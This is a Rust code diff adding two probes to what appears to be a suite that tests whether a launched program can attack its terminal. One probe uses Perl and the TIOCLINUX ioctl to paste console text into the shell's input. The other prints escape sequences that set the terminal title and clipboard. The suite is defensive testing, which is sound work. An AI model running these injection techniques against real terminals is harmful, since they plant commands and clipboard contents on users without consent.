@@ -5,7 +5,7 @@ use std::fs::File;
 use std::io::{self, Read as _};
 
 use crate::helper::{finish, perl};
-use crate::{HOLD, Need, Params, Probe};
+use crate::{Control, HOLD, Need, Params, Probe};
 
 /// Types its first argument into the terminal with the request given: `/dev/tty`, else input.
 const TYPE: &str = r#"
@@ -47,7 +47,45 @@ pub(crate) const PROBES: &[Probe] = &[
         action: |_| read_terminal(),
         ..HOLD
     },
+    Probe {
+        id: "term.tioclinux",
+        what: "Selects text on the virtual console and pastes it into the launcher's input.",
+        why: "The user's shell on that console runs what was pasted.",
+        references: &["CVE-2023-1523 (secondary source)"],
+        needs: &[Need::Launch, Need::Perl, Need::Root, Need::Console],
+        observer: "the suite reads the console's input after the run",
+        control: Control::Root,
+        action: |_| {
+            let number = if cfg!(target_arch = "x86_64") { "16" } else { "29" };
+            let mut command = perl(PASTE, &[number])?;
+            command.stdin(std::process::Stdio::inherit());
+            finish(command)
+        },
+        ..HOLD
+    },
+    Probe {
+        id: "term.escape",
+        what: "Prints control sequences that set the terminal's title and the clipboard.",
+        why: "A terminal obeys them: they hide text, type answers and fill the clipboard.",
+        needs: &[Need::Launch],
+        observer: "the sequence arrives at the launcher's terminal as it is",
+        action: |params| {
+            let text = params.content()?;
+            println!("\u{1b}]0;{text}\u{7}\u{1b}]52;c;{text}\u{7}\u{9d}0;{text}\u{9c}");
+            Ok("printed them".into())
+        },
+        ..HOLD
+    },
 ];
+
+/// TIOCL_SETSEL of the first screenful, then TIOCL_PASTESEL.
+const PASTE: &str = r#"
+    my ($number) = @ARGV; my $terminal;
+    open($terminal, "+<", "/dev/tty") or $terminal = \*STDIN;
+    for my $part (pack("C S5", 2, 1, 1, 80, 25, 0), pack("C x15", 3)) {
+        my $p = $part;
+        syscall($number + 0, fileno($terminal), 0x541C, $p) == 0 or die "ioctl: $!\n";
+    }"#;
 
 fn type_into(params: &Params, request: &str) -> io::Result<String> {
     let number = if cfg!(target_arch = "x86_64") { "16" } else { "29" };
